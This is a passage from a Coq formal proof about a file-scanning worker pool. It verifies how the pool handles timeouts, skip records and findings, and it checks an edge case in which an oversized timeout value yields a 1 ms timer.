  - destruct (str_eqb (path_basename path) (u "package.json")); cbn [fst snd bind];
      match goal with
      | |- context [inspect_conclude cfg path ?p ?d] =>
          destruct (inspect_conclude cfg path p d) as [finding|] eqn:E
      end;
      try (left; reflexivity);
      right; right; exists finding; (split; [reflexivity|]);
      apply (conclude_file _ _ _ _ _ E).
Qed.

Ltac pool_fields :=
  cbn [queue workers out skipped processed INVIS_lastIndex abandoned
       with_worker with_queue with_lastIndex with_abandoned worker_continue] in *.

Section PoolProofs.
Variable P : Platform.
Variable cfg : Config.
Variable files : list jsstring.

Lemma CONCURRENCY_at_least_2 : 2 <= CONCURRENCY P.
Proof. unfold CONCURRENCY. apply Nat.le_max_l. Qed.

Lemma settled_files_snoc tr e :
  settled_files (tr ++ [e])
  = settled_files tr ++ match e with Settled _ f _ => [f] | _ => [] end.
Proof. unfold settled_files. rewrite flat_map_app. cbn. rewrite app_nil_r. reflexivity. Qed.

Lemma findings_of_snoc tr e :
  findings_of (tr ++ [e])
  = findings_of tr ++ match e with
                      | Settled _ _ (Normal (Some finding)) => [finding]
                      | _ => []
                      end.
Proof. unfold findings_of. rewrite flat_map_app. cbn. rewrite app_nil_r. reflexivity. Qed.

Lemma skips_of_snoc tr e :
  skips_of (tr ++ [e])
  = skips_of tr ++ match e with
                   | Settled _ f (Throw err) =>
                       if String.eqb (err_message err) "timeout"
                       then [{| skip_file := f; skip_reason := "timeout" |}]
                       else []
                   | _ => []
                   end.
Proof. unfold skips_of. rewrite flat_map_app. cbn. rewrite app_nil_r. reflexivity. Qed.

Lemma invariant_start : pool_invariant P cfg files [] (start P files).
Proof.
  constructor; unfold start; pool_fields.
  - assert (E : awaiting (repeat Polling (CONCURRENCY P)) = []).
    { induction (CONCURRENCY P); [reflexivity|exact IHn]. }
    rewrite E. cbn. rewrite app_nil_r. reflexivity.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - constructor.
  - intros H. apply repeat_spec in H. discriminate H.
  - apply repeat_length.
Qed.

Lemma invariant_step tr s e s' :
  pool_invariant P cfg files tr s -> step P cfg s e s' ->
  pool_invariant P cfg files (tr ++ [e]) s'.
Proof.
  intros [Hfiles Hproc Hout Hskip Hev Hdrained Hpool] Hstep.
  destruct Hstep as [s w q f Hw Hq | s w Hw Hq | s w f Hw Htime | s w f Hw Htime
                    | s l f l' Hab].
  - (* pop *)
    constructor; pool_fields;
      rewrite ?settled_files_snoc, ?findings_of_snoc, ?skips_of_snoc, ?app_nil_r;
      try assumption.
    + rewrite Hfiles, Hq, (awaiting_start _ _ f Hw), <- app_assoc.
      apply Permutation_app_head. reflexivity.
    + apply Forall_app. split; [assumption|]. repeat constructor.
    + intros Hin. apply returned_kept in Hin; [|discriminate].
      specialize (Hdrained Hin). rewrite Hq in Hdrained.
      destruct q; discriminate Hdrained.
    + rewrite set_nth_length. exact Hpool.
  - (* stop *)
    constructor; pool_fields;
      rewrite ?settled_files_snoc, ?findings_of_snoc, ?skips_of_snoc, ?app_nil_r;
      try assumption.
    + rewrite (awaiting_stop _ _ Hw). exact Hfiles.
    + apply Forall_app. split; [assumption|]. repeat constructor.
    + intros _. exact Hq.
    + rewrite set_nth_length. exact Hpool.
  - (* the inspection settles first *)
    constructor; pool_fields;
      rewrite ?settled_files_snoc, ?findings_of_snoc, ?skips_of_snoc.
    + rewrite Hfiles, (awaiting_end _ _ f Hw).
      apply Permutation_app_head. cbn [app].
      rewrite app_assoc. apply Permutation_cons_append.
    + rewrite length_app, Hproc. cbn. lia.
    + rewrite Hout.
      destruct (fst (inspect P cfg f (INVIS_lastIndex s))) as [[finding|]|err];
        rewrite ?app_nil_r; reflexivity.
    + rewrite Hskip.
      destruct (fst (inspect P cfg f (INVIS_lastIndex s))) as [[finding|]|err];
        rewrite ?app_nil_r; try reflexivity.
      destruct (String.eqb (err_message err) "timeout"); rewrite ?app_nil_r; reflexivity.
    + apply Forall_app. split; [assumption|]. constructor; [|constructor].
      right. split; [exact Htime|]. exists (INVIS_lastIndex s). reflexivity.
    + intros Hin. apply returned_kept in Hin; [|discriminate]. auto.
    + rewrite set_nth_length. exact Hpool.
  - (* the timer fires first *)
    constructor; pool_fields;
      rewrite ?settled_files_snoc, ?findings_of_snoc, ?skips_of_snoc.
    + rewrite Hfiles, (awaiting_end _ _ f Hw).
      apply Permutation_app_head. cbn [app].
      rewrite app_assoc. apply Permutation_cons_append.
    + rewrite length_app, Hproc. cbn. lia.
    + rewrite Hout, app_nil_r. reflexivity.
    + rewrite Hskip. reflexivity.
    + apply Forall_app. split; [assumption|]. constructor; [|constructor].
      left. split; [reflexivity|exact Htime].
    + intros Hin. apply returned_kept in Hin; [|discriminate]. auto.
    + rewrite set_nth_length. exact Hpool.
  - (* an abandoned inspection ends *)
    constructor; pool_fields;
      rewrite ?settled_files_snoc, ?findings_of_snoc, ?skips_of_snoc, ?app_nil_r;
      try assumption.
    apply Forall_app. split; [assumption|]. repeat constructor.
Qed.

Lemma invariant_reaches tr s :
  reaches P cfg (start P files) tr s -> pool_invariant P cfg files tr s.
Proof.
  induction 1 as [|tr s e s' _ IH Hstep].
  - apply invariant_start.
  - apply (invariant_step tr s e s' IH Hstep).
Qed.

End PoolProofs.

Lemma occurrences_Permutation (f : jsstring) (l l' : list jsstring) :
  Permutation l l' -> occurrences f l = occurrences f l'.
Proof.
  unfold occurrences. induction 1 as [|x l l' _ IH|x y l|l l' l'' _ IH1 _ IH2]; cbn [filter].
  - reflexivity.
  - destruct (str_eqb f x); cbn [List.length]; congruence.
  - destruct (str_eqb f x), (str_eqb f y); reflexivity.
  - congruence.
Qed.

Lemma occurrences_app (f : jsstring) (l l' : list jsstring) :
  occurrences f (l ++ l') = (occurrences f l + occurrences f l')%nat.
Proof. unfold occurrences. rewrite filter_app, length_app. reflexivity. Qed.

Lemma str_eqb_refl (a : jsstring) : str_eqb a a = true.
Proof. apply str_eqb_eq. reflexivity. Qed.

Lemma str_eqb_neq (a b : jsstring) : a <> b -> str_eqb a b = false.
Proof.
  intros H. destruct (str_eqb a b) eqn:E; [|reflexivity].
  apply str_eqb_eq in E. contradiction.
Qed.

Lemma occurrences_absent (f : jsstring) (l : list jsstring) :
  ~ In f l -> occurrences f l = 0.
Proof.
  unfold occurrences. induction l as [|x l IH]; intros H; [reflexivity|].
  cbn [filter]. rewrite str_eqb_neq.
  - apply IH. intros Hin. apply H. right. exact Hin.
  - intros ->. apply H. left. reflexivity.
Qed.

Lemma occurrences_once (f : jsstring) (l : list jsstring) :
  NoDup l -> In f l -> occurrences f l = 1.
Proof.
  induction 1 as [|x l Hx _ IH]; intros Hin; [contradiction|].
  unfold occurrences in *. cbn [filter].
  destruct (list_eq_dec N.eq_dec f x) as [->|Hne].
  - rewrite str_eqb_refl. cbn [List.length]. f_equal.
    apply (occurrences_absent x l Hx).
  - rewrite str_eqb_neq by exact Hne. apply IH.
    destruct Hin as [E|Hin]; [congruence|exact Hin].
Qed.

Lemma settled_outcomes (tr : list event) :
  List.length (findings_of tr) + List.length (skips_of tr) <= List.length (settled_files tr).
Proof.
  induction tr as [|e tr IH]; [apply Nat.le_refl|].
  change (e :: tr) with ([e] ++ tr).
  unfold findings_of, skips_of, settled_files in *.
  rewrite !flat_map_app, !length_app.
  assert (He : List.length (flat_map (fun e => match e with
                                               | Settled _ _ (Normal (Some finding)) => [finding]
                                               | _ => []
                                               end) [e])
               + List.length (flat_map (fun e => match e with
                                                 | Settled _ f (Throw err) =>
                                                     if String.eqb (err_message err) "timeout"
                                                     then [{| skip_file := f;
                                                              skip_reason := "timeout" |}]
                                                     else []
                                                 | _ => []
                                                 end) [e])
               <= List.length (flat_map (fun e => match e with
                                                  | Settled _ f _ => [f]
                                                  | _ => []
                                                  end) [e])).
  { destruct e as [w f|w|w f [[x|]|err]|f]; cbn; try lia.
    destruct (String.eqb (err_message err) "timeout"); cbn; lia. }
  lia.
Qed.

Section Accounting.
Variable P : Platform.
Variable cfg : Config.

Lemma skips_are_timeouts (tr : list event) :
  Forall (fun k => skip_reason k = "timeout") (skips_of tr).
Proof.
  unfold skips_of. induction tr as [|e tr IH]; cbn [flat_map]; [constructor|].
  apply Forall_app. split; [|exact IH].
  destruct e as [| |w f [r|err]|]; try constructor.
  destruct (String.eqb (err_message err) "timeout"); repeat constructor.
Qed.

(** What [inspect] gives is never taken for the rejection of the timer. *)
Lemma inspect_is_no_timeout (f : jsstring) (lastIndex : nat) :
  match fst (inspect P cfg f lastIndex) with
  | Throw err => String.eqb (err_message err) "timeout" = false
  | Normal _ => True
  end.
Proof.
  destruct (inspect_outcomes P cfg f lastIndex) as [H|[H|(x & H & _)]]; rewrite H;
    [exact I|reflexivity|exact I].
Qed.

(** A skip record is of a path whose race the timer settled: its name is
    not ignored. *)
Lemma skips_from_timer (tr : list event) (f : jsstring) :
  Forall (legitimate P cfg) tr ->
  In f (map skip_file (skips_of tr)) ->
  ignoreName (path_basename f) = false /\ In f (settled_files tr).
Proof.
  intros Hev. induction Hev as [|e tr He _ IH]; [intros []|].
  unfold skips_of, settled_files in *. cbn [flat_map]. rewrite map_app. intros Hin.
  apply in_app_or in Hin as [Hin|Hin].
  - destruct e as [| |w g [r|err]|]; try contradiction.
    destruct (String.eqb (err_message err) "timeout") eqn:Emsg; [|contradiction].
    destruct Hin as [<-|[]]. cbn [skip_file].
    destruct He as [[_ Hname]|[_ [li E]]].
    + split; [exact Hname|]. left. reflexivity.
    + pose proof (inspect_is_no_timeout g li) as Hno. rewrite <- E in Hno. congruence.
  - destruct (IH Hin) as [Hname Hs]. split; [exact Hname|].
    apply in_or_app. right. exact Hs.
Qed.

(** A finding is of a path whose race [inspect] settled. *)
Lemma findings_from_settled (tr : list event) (r : Finding) :
  Forall (legitimate P cfg) tr -> In r (findings_of tr) ->
  In (file r) (settled_files tr).
Proof.
  intros Hleg Hr. unfold findings_of in Hr. apply in_flat_map in Hr.
  destruct Hr as (e & He & Hr). rewrite Forall_forall in Hleg. specialize (Hleg e He).
  destruct e as [w f|w|w f [[x|]|err]|f]; try contradiction.
  destruct Hr as [->|[]].
  destruct Hleg as [[E _]|[_ [li E]]]; [discriminate E|].
  unfold settled_files. apply in_flat_map. exists (Settled w f (Normal (Some r))).
  split; [exact He|]. left.
  destruct (inspect_outcomes P cfg f li) as [H|[H|(x & H & Hfile)]];
    rewrite <- E in H; try discriminate H.
  apply (f_equal (fun c : completion (option Finding) =>
                    match c with Normal (Some y) => file y | _ => f end)) in H.
  cbv beta iota in H. rewrite <- Hfile. symmetry. exact H.
Qed.

(** A path that waits longer than the delay of the timer gets the timer's
    rejection, whenever it is dispatched. *)
Lemma late_paths_are_skipped (tr : list event) (f : jsstring) :
  Forall (legitimate P cfg) tr ->
  (timer_delay (INSPECT_TIMEOUT cfg) < inspect_wait P f)%N ->
  occurrences f (map skip_file (skips_of tr)) = occurrences f (settled_files tr)
  /\ ~ In f (map file (findings_of tr)).
Proof.
  intros Hev Hlate. induction Hev as [|e tr He _ [IHskip IHout]].
  - split; [reflexivity|intros []].
  - unfold skips_of, settled_files, findings_of in *. cbn [flat_map].
    rewrite !map_app, !occurrences_app, IHskip.
    destruct e as [| |w g r|]; try (split; [reflexivity|exact IHout]).
    destruct (list_eq_dec N.eq_dec g f) as [->|Hne].
    + destruct He as [[-> _]|[Htime _]]; [|lia].
      split; [reflexivity|exact IHout].
    + split.
      * f_equal. unfold occurrences. cbn [filter].
        rewrite (str_eqb_neq f g) by congruence.
        destruct r as [r|err]; [reflexivity|].
        destruct (String.eqb (err_message err) "timeout"); cbn;
          rewrite ?(str_eqb_neq f g) by congruence; reflexivity.
      * intros Hin. apply in_app_or in Hin as [Hin|Hin]; [|exact (IHout Hin)].
        destruct r as [[finding|]|err]; try contradiction.
        destruct Hin as [Hfile|[]].
        destruct He as [[E _]|[_ [li E]]]; [discriminate E|].
        destruct (inspect_outcomes P cfg g li) as [H|[H|(x & H & Hx)]];
          rewrite H in E; try discriminate E.
        injection E as ->. congruence.
Qed.

(** In a run that settles no path twice, a path with a skip record has
    one record and no finding. *)
Lemma skipped_once (tr : list event) (f : jsstring) :
  Forall (legitimate P cfg) tr ->
  NoDup (settled_files tr) ->
  In f (map skip_file (skips_of tr)) ->
  occurrences f (map skip_file (skips_of tr)) = 1
  /\ ~ In f (map file (findings_of tr)).
Proof.
  intros Hev. induction Hev as [|e tr He Hev IH]; [intros _ []|].
  intros Hnodup Hin.
  assert (Hrest : ~ In f (settled_files tr) ->
                  occurrences f (map skip_file (skips_of tr)) = 0
                  /\ ~ In f (map file (findings_of tr))).
  { intros Hnot. split.
    - apply occurrences_absent. intros H. apply Hnot.
      apply (skips_from_timer tr f Hev H).
    - intros H. apply in_map_iff in H. destruct H as (r & <- & Hr). apply Hnot.
      apply (findings_from_settled tr r Hev Hr). }
  unfold skips_of, settled_files, findings_of in *. cbn [flat_map] in *.
  rewrite !map_app, ?occurrences_app in *.
  destruct e as [| |w g r|]; cbn [app map] in *; try (apply IH; assumption).
  inversion Hnodup as [|? ? Hg Hnodup']; subst.
  destruct (list_eq_dec N.eq_dec g f) as [->|Hne].
  - destruct (Hrest Hg) as [Hzero Hnone].
    destruct r as [r|err].
    + exfalso. cbn [map app] in Hin. apply Hg.
      apply (skips_from_timer tr f Hev Hin).
    + destruct (String.eqb (err_message err) "timeout").
      * cbn [map skip_file]. split.
        -- rewrite Hzero. unfold occurrences. cbn [filter].
           rewrite str_eqb_refl. reflexivity.
        -- exact Hnone.
      * exfalso. cbn [map app] in Hin. apply Hg.
        apply (skips_from_timer tr f Hev Hin).
  - assert (Hin' : In f (map skip_file
                           (flat_map (fun e => match e with
                                               | Settled _ f (Throw err) =>
                                                   if String.eqb (err_message err) "timeout"
                                                   then [{| skip_file := f;
                                                            skip_reason := "timeout" |}]
                                                   else []
                                               | _ => []
                                               end) tr))).
    { apply in_app_or in Hin as [Hin|Hin]; [|exact Hin].
      destruct r as [r|err]; [contradiction|].
      destruct (String.eqb (err_message err) "timeout"); [|contradiction].
      destruct Hin as [E|[]]. cbn in E. congruence. }
    destruct (IH Hnodup' Hin') as [Hone Hnone]. split.
    + rewrite Hone.
      destruct r as [r|err]; [reflexivity|].
      destruct (String.eqb (err_message err) "timeout"); [|reflexivity].
      unfold occurrences. cbn [map skip_file filter].
      rewrite (str_eqb_neq f g) by congruence. reflexivity.
    + intros H. apply in_app_or in H as [H|H]; [|exact (Hnone H)].
      destruct r as [[finding|]|err]; try contradiction.
      destruct H as [Hfile|[]].
      destruct He as [[E _]|[_ [li E]]]; [discriminate E|].
      destruct (inspect_outcomes P cfg g li) as [H|[H|(x & H & Hx)]];
        rewrite H in E; try discriminate E.
      injection E as ->. congruence.
Qed.

(** A path whose inspection always rejects has no finding. *)
Lemma faults_give_no_finding (tr : list event) (f : jsstring) :
  Forall (legitimate P cfg) tr ->
  (forall lastIndex, exists err, fst (inspect P cfg f lastIndex) = Throw err) ->
  ~ In f (map file (findings_of tr)).
Proof.
  intros Hev Hfault Hin. apply in_map_iff in Hin. destruct Hin as (r & Hfile & Hr).
  unfold findings_of in Hr. apply in_flat_map in Hr.
  destruct Hr as (e & He & Hr). rewrite Forall_forall in Hev. specialize (Hev e He).
  destruct e as [w g|w|w g [[x|]|err]|g]; try contradiction.
  destruct Hr as [->|[]].
  destruct Hev as [[E _]|[_ [li E]]]; [discriminate E|].
  destruct (inspect_outcomes P cfg g li) as [H|[H|(x & H & Hx)]];
    rewrite <- E in H; try discriminate H.
  apply (f_equal (fun c : completion (option Finding) =>
                    match c with Normal (Some y) => file y | _ => g end)) in H.
  cbv beta iota in H.
  assert (Hg : g = f) by congruence.
  destruct (Hfault li) as [err Herr]. rewrite Hg in E. rewrite <- E in Herr.
  discriminate Herr.
Qed.

End Accounting.

Section Progress.
Variable P : Platform.
Variable cfg : Config.

(** Every event uses up some of the remaining work. *)
Lemma step_decreases (s : Scan) (e : event) (s' : Scan) :
  step P cfg s e s' -> remaining_work s' < remaining_work s.
Proof.
  intros Hstep. unfold remaining_work.
  destruct Hstep as [s w q f Hw Hq | s w Hw Hq | s w f Hw Htime | s w f Hw Htime
                    | s l f l' Hab]; pool_fields.
  - pose proof (set_nth_weight _ _ _ (Awaiting f) Hw) as E. cbn [worker_weight] in E.
    rewrite Hq, length_app. cbn [List.length]. lia.
  - pose proof (set_nth_weight _ _ _ Returned Hw) as E. cbn [worker_weight] in E. lia.
  - pose proof (set_nth_weight _ _ _ Polling Hw) as E. cbn [worker_weight] in E. lia.
  - pose proof (set_nth_weight _ _ _ Polling Hw) as E. cbn [worker_weight] in E.
    cbn [List.length]. lia.
  - rewrite Hab, !length_app. cbn [List.length]. lia.
Qed.

Lemma unreturned_worker (ws : list worker) :
  ~ Forall (fun w => w = Returned) ws ->
  exists n w, nth_error ws n = Some w /\ w <> Returned.
Proof.
  induction ws as [|w ws IH]; intros H.
  - exfalso. apply H. constructor.
  - destruct w as [|f|].
    + exists 0, Polling. split; [reflexivity|discriminate].
    + exists 0, (Awaiting f). split; [reflexivity|discriminate].
    + destruct IH as (n & w & Hn & Hw).
      * intros Hall. apply H. constructor; [reflexivity|exact Hall].
      * exists (S n), w. split; assumption.
Qed.

(** While a worker has not returned, the event loop has something to do. *)
Lemma step_exists (s : Scan) :
  ~ all_returned s -> exists e s', step P cfg s e s'.
Proof.
  intros H. destruct (unreturned_worker _ H) as (n & w & Hn & Hw).
  destruct w as [|f|]; [| |contradiction].
  - destruct (queue s) as [|x q] eqn:Hq.
    + eexists. eexists. apply (step_stop P cfg s n Hn Hq).
    + destruct (exists_last (l := x :: q)) as (q' & f & E); [discriminate|].
      eexists. eexists. apply (step_pop P cfg s n q' f Hn). congruence.
  - destruct (ignoreName (path_basename f)) eqn:Hname.
    + eexists. eexists. apply (step_inspected P cfg s n f Hn).
      unfold inspect_wait. rewrite Hname. apply N.le_0_l.
    + eexists. eexists. apply (step_timed_out P cfg s n f Hn Hname).
Qed.

Lemma returned_dec (w : worker) : {w = Returned} + {w <> Returned}.
Proof. destruct w; [right; discriminate | right; discriminate | left; reflexivity]. Qed.

Lemma all_returned_dec (s : Scan) : all_returned s \/ ~ all_returned s.
Proof.
  unfold all_returned.
  destruct (Forall_dec (fun w => w = Returned) returned_dec (workers s));
    [left|right]; assumption.
Qed.

(** From any state that a scan reaches, the pool runs to its end. *)
Lemma pool_finishes (s0 : Scan) (n : nat) : forall tr s,
  remaining_work s <= n ->
  reaches P cfg s0 tr s ->
  exists tr' s', reaches P cfg s0 tr' s' /\ all_returned s'.
Proof.
  induction n as [|n IH]; intros tr s Hn Hreach;
    destruct (all_returned_dec s) as [Hall|Hnot];
    try (exists tr, s; split; assumption);
    destruct (step_exists s Hnot) as (e & s' & Hstep);
    pose proof (step_decreases s e s' Hstep) as Hless.
  - lia.
  - apply (IH (tr ++ [e]) s'); [lia|].
    apply (reaches_step P cfg s0 tr s e s' Hreach Hstep).
Qed.

Lemma awaiting_polling (n : nat) : awaiting (repeat Polling n) = [].
Proof. induction n as [|n IH]; [reflexivity|exact IH]. Qed.

(** Once the queue is empty and no worker waits, the workers leave their
    loops one by one and nothing else changes. *)
Lemma workers_return (s0 : Scan) (n : nat) : forall tr s,
  list_sum (map worker_weight (workers s)) <= n ->
  reaches P cfg s0 tr s -> queue s = [] -> awaiting (workers s) = [] ->
  exists tr' s',
    reaches P cfg s0 tr' s' /\ all_returned s'
    /\ out s' = out s /\ skipped s' = skipped s /\ processed s' = processed s.
Proof.
  induction n as [|n IH]; intros tr s Hn Hreach Hq Haw;
    destruct (all_returned_dec s) as [Hall|Hnot];
    try (exists tr, s; repeat split; assumption);
    destruct (unreturned_worker _ Hnot) as (k & w & Hk & Hw);
    (destruct w as [|f|]; [| |contradiction]);
    try (exfalso; pose proof (awaiting_end _ _ _ Hk) as Hperm; rewrite Haw in Hperm;
         apply (Permutation_nil_cons Hperm));
    pose proof (set_nth_weight _ _ _ Returned Hk) as E; cbn [worker_weight] in E.
  - lia.
  - destruct (IH (tr ++ [Stop k]) (with_worker s k Returned))
      as (tr' & s' & Hreach' & Hall' & Hout & Hskip & Hproc); pool_fields.
    + lia.
    + apply (reaches_step P cfg s0 tr s _ _ Hreach). apply (step_stop P cfg s k Hk Hq).
    + exact Hq.
    + rewrite (awaiting_stop _ _ Hk). exact Haw.
    + exists tr', s'. repeat split; assumption.
Qed.

(** A path whose wait is within the delay of the timer can be inspected
    to the end, however long its matching takes: the scan of that path
    alone has a complete run without a skip record. *)
Lemma unskipped_run (f : jsstring) :
  (inspect_wait P f <= timer_delay (INSPECT_TIMEOUT cfg))%N ->
  exists tr s,
    reaches P cfg (start P [f]) tr s /\ all_returned s
    /\ processed s = 1 /\ skipped s = [] /\ out s = finding_of P cfg f.
Proof.
  intros Hwait.
  pose proof (CONCURRENCY_at_least_2 P) as H2.
  set (s1 := with_worker (with_queue (start P [f]) []) 0 (Awaiting f)).
  set (s2 := with_worker
               (worker_continue
                  (with_lastIndex s1 (snd (inspect P cfg f (INVIS_lastIndex s1))))
                  f (fst (inspect P cfg f (INVIS_lastIndex s1))))
               0 Polling).
  assert (Hstart : nth_error (workers (start P [f])) 0 = Some Polling).
  { unfold start. cbn [workers]. destruct (CONCURRENCY P); [lia|reflexivity]. }
  assert (Hs1 : nth_error (workers s1) 0 = Some (Awaiting f)).
  { unfold s1, start. pool_fields. destruct (CONCURRENCY P); [lia|reflexivity]. }
  assert (Hreach : reaches P cfg (start P [f])
                     (([] ++ [Pop 0 f])
                      ++ [Settled 0 f (fst (inspect P cfg f (INVIS_lastIndex s1)))]) s2).
  { eapply reaches_step; [eapply reaches_step; [apply reaches_start|]|].
    - apply (step_pop P cfg (start P [f]) 0 [] f Hstart). reflexivity.
    - apply (step_inspected P cfg s1 0 f Hs1 Hwait). }
  destruct (workers_return (start P [f]) (list_sum (map worker_weight (workers s2)))
              _ s2 (Nat.le_refl _) Hreach)
    as (tr' & s' & Hreach' & Hall' & Hout & Hskip & Hproc).
  - reflexivity.
  - unfold s2, s1, start. pool_fields.
    destruct (CONCURRENCY P) as [|c]; [lia|]. cbn [repeat set_nth].
    apply (awaiting_polling (S c)).
  - exists tr', s'. split; [exact Hreach'|]. split; [exact Hall'|].
    rewrite Hproc, Hskip, Hout. unfold s2, s1, start. pool_fields.
    split; [reflexivity|].
    pose proof (inspect_is_no_timeout P cfg f 0) as Hno. unfold finding_of.
    destruct (fst (inspect P cfg f 0)) as [[finding|]|err]; [| |rewrite Hno];
      repeat split; reflexivity.
Qed.

End Progress.

(** Claim C9.  What the pool does with timeouts and faults.  The pool
    always runs to its end; as long as a worker has not returned an event
    can take place, and each event uses up remaining work, so the scan
    continues over all the files.  Whenever a race settles the processed
    count goes up by one.  If the timer settles it, one skip record with
    reason timeout is appended and no finding.  If [inspect] settles it,
    its wait was within the delay of the timer and no skip record is
    appended, nor a finding when [inspect] rejects.  When all workers have
    returned, every path has been processed; every skip record has reason
    timeout and is of a queued path; a path that waits longer than the
    delay of the timer has as many skip records as it was queued and no
    finding; when the queue holds no path twice, a skipped path has one
    record and no finding; a path whose inspection rejects has no finding.
    The timer does not bound the inspection, though: a path whose wait is
    within the delay is inspected to the end in a run that skips nothing,
    however long the matching takes. *)
Theorem timeouts_and_faults_are_accounted (P : Platform) (cfg : Config)
    (files : list jsstring) :
  (exists tr s, reaches P cfg (start P files) tr s /\ all_returned s)
  /\ (forall tr s, reaches P cfg (start P files) tr s -> ~ all_returned s ->
         exists e s', step P cfg s e s')
  /\ (forall s e s', step P cfg s e s' -> remaining_work s' < remaining_work s)
  /\ (forall s w f r s', step P cfg s (Settled w f r) s' ->
         processed s' = S (processed s)
         /\ (r = Throw timeout_Error ->
             ignoreName (path_basename f) = false
             /\ skipped s' = skipped s ++ [{| skip_file := f; skip_reason := "timeout" |}]
             /\ out s' = out s)
         /\ (r <> Throw timeout_Error ->
             (inspect_wait P f <= timer_delay (INSPECT_TIMEOUT cfg))%N
             /\ r = fst (inspect P cfg f (INVIS_lastIndex s))
             /\ skipped s' = skipped s
             /\ ((exists err, r = Throw err) -> out s' = out s)))
  /\ (forall tr s, reaches P cfg (start P files) tr s -> all_returned s ->
         processed s = List.length files
         /\ (forall k, In k (skipped s) ->
               skip_reason k = "timeout" /\ In (skip_file k) files)
         /\ (forall f, (timer_delay (INSPECT_TIMEOUT cfg) < inspect_wait P f)%N ->
               occurrences f (map skip_file (skipped s)) = occurrences f files
               /\ ~ In f (map file (out s)))
         /\ (NoDup files -> forall f, In f (map skip_file (skipped s)) ->
               occurrences f (map skip_file (skipped s)) = 1
               /\ ~ In f (map file (out s)))
         /\ (forall f,
               (forall lastIndex, exists err, fst (inspect P cfg f lastIndex) = Throw err) ->
               ~ In f (map file (out s))))
  /\ (forall f, (inspect_wait P f <= timer_delay (INSPECT_TIMEOUT cfg))%N ->
         exists tr s,
           reaches P cfg (start P [f]) tr s /\ all_returned s
           /\ processed s = 1 /\ skipped s = [] /\ out s = finding_of P cfg f).
Proof.
  split; [|split; [|split; [|split; [|split]]]].
  - apply (pool_finishes P cfg (start P files) (remaining_work (start P files))
             [] (start P files)); [lia|constructor].
  - intros tr s _ Hnot. apply (step_exists P cfg s Hnot).
  - apply step_decreases.
  - intros s w f r s' Hstep. inversion Hstep; subst; pool_fields.
    + split; [reflexivity|]. split.
      * intros Hr. exfalso.
        pose proof (inspect_is_no_timeout P cfg f (INVIS_lastIndex s)) as Hno.
        rewrite Hr in Hno. discriminate Hno.
      * intros _. split; [assumption|]. split; [reflexivity|].
        pose proof (inspect_is_no_timeout P cfg f (INVIS_lastIndex s)) as Hno.
        destruct (fst (inspect P cfg f (INVIS_lastIndex s))) as [[finding|]|err].
        -- split; [reflexivity|]. intros [err Herr]. discriminate Herr.
        -- split; reflexivity.
        -- rewrite Hno. split; reflexivity.
    + split; [reflexivity|]. split.
      * intros _. split; [assumption|]. split; reflexivity.
      * intros Hr. contradiction Hr. reflexivity.
  - intros tr s Hreach Hall.
    destruct (invariant_reaches P cfg files tr s Hreach)
      as [Hfiles Hproc Hout Hskip Hev Hdrained Hpool].
    assert (Hq : queue s = []).
    { apply Hdrained. pose proof (CONCURRENCY_at_least_2 P) as H2.
      unfold all_returned in Hall. destruct (workers s) as [|w ws].
      - cbn [List.length] in Hpool. lia.
      - inversion Hall; subst. left. reflexivity. }
    rewrite Hq, (awaiting_none _ Hall) in Hfiles. cbn [app] in Hfiles.
    split; [|split; [|split; [|split]]].
    + rewrite Hproc. symmetry. apply Permutation_length. exact Hfiles.
    + intros k Hk. rewrite Hskip in Hk. split.
      * pose proof (skips_are_timeouts tr) as Hall'.
        rewrite Forall_forall in Hall'. apply Hall'. exact Hk.
      * apply (Permutation_in _ (Permutation_sym Hfiles)).
        apply (skips_from_timer P cfg tr _ Hev). apply in_map. exact Hk.
    + intros f Hlate. rewrite Hskip, Hout.
      destruct (late_paths_are_skipped P cfg tr f Hev Hlate) as [Hcount Hnone].
      split; [|exact Hnone].
      rewrite Hcount. symmetry. apply occurrences_Permutation. exact Hfiles.
    + intros Hnodup f Hf. rewrite Hskip, Hout in *.
      apply (skipped_once P cfg tr f Hev); [|exact Hf].
      apply (Permutation_NoDup Hfiles Hnodup).
    + intros f Hfault. rewrite Hout.
      apply (faults_give_no_finding P cfg tr f Hev Hfault).
  - apply unskipped_run.
Qed.

(** With a timeout of 100 ms, [heavy_js] is read in 2 ms and matched in
    1300 ms: its inspection takes longer than the timeout, and the scan of
    it ends with the file processed and no skip record. *)
Lemma timeouts_and_faults_are_accounted_witness :
  timer_delay (INSPECT_TIMEOUT default_config) = 100%N
  /\ inspection_time (sample_platform [heavy_js]) (sample_path heavy_js) = 1302%N
  /\ exists tr s,
       reaches (sample_platform [heavy_js]) default_config
               (start (sample_platform [heavy_js]) [sample_path heavy_js]) tr s
       /\ all_returned s
       /\ processed s = 1
       /\ skipped s = []
       /\ out s = finding_of (sample_platform [heavy_js]) default_config
                             (sample_path heavy_js).
Proof.
  split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  destruct (timeouts_and_faults_are_accounted (sample_platform [heavy_js])
              default_config [])
    as (_ & _ & _ & _ & _ & Hrun).
  apply (Hrun (sample_path heavy_js)). vm_compute. discriminate.
Defined.

(** A timeout above 2^31 - 1 gives a timer of 1 ms: with
    [INSPECT_TIMEOUT=2147483648] the file [wallet_js], read in 3 ms, is
    skipped in every complete run. *)
Lemma oversized_timeout_skips (tr : list event) (s : Scan) :
  reaches (sample_platform sample_tree) oversized_config
          (start (sample_platform sample_tree) [sample_path wallet_js]) tr s ->
  all_returned s ->
  timer_delay (INSPECT_TIMEOUT oversized_config) = 1%N
  /\ map skip_file (skipped s) = [sample_path wallet_js].
Proof.
  intros Hreach Hall. split; [vm_compute; reflexivity|].
  destruct (invariant_reaches _ _ _ tr s Hreach)
    as [Hfiles Hproc Hout Hskip Hev Hdrained Hpool].
  assert (Hq : queue s = []).
  { apply Hdrained. unfold all_returned in Hall. destruct (workers s) as [|w ws].
    - cbn [List.length] in Hpool. discriminate Hpool.
    - inversion Hall; subst. left. reflexivity. }
  rewrite Hq, (awaiting_none _ Hall) in Hfiles. cbn [app] in Hfiles.
  destruct (late_paths_are_skipped _ _ tr (sample_path wallet_js) Hev) as [Hcount _];
    [vm_compute; reflexivity|].
  rewrite <- (occurrences_Permutation _ _ _ Hfiles) in Hcount.
  rewrite Hskip.
  assert (Hlen : List.length (skips_of tr) <= 1).
  { pose proof (settled_outcomes tr) as Hl.
    rewrite <- (Permutation_length Hfiles) in Hl. cbn [List.length] in Hl. lia. }
  destruct (skips_of tr) as [|k [|k' l]] eqn:Hk.
  - vm_compute in Hcount. discriminate Hcount.
  - cbn [map]. f_equal.
